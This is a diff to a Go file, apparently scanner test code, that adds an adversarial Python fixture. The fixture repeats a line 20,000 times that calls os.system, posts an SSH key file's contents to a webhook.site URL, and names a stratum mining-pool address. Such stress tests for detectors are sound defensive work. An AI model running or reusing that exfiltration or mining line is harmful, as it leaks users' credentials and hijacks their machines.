@@ -108,6 +108,8 @@ func adversarialPython() map[string]string {
 		b.WriteString("y = " + strings.Repeat("getattr(", 900) + "os" + strings.Repeat(", 'system')", 900) + "\n")
 	}
 	out["nesting"] = b.String()
+	// one minified line with tens of thousands of findings
+	out["oneline"] = "import os, requests; " + strings.Repeat("os.system('a' + x); requests.post('https://webhook.site/x', data=open('~/.ssh/k'+x).read()); y = 'stratum+tcp://p.x:1'; ", 20000)
 	return out
 }
 
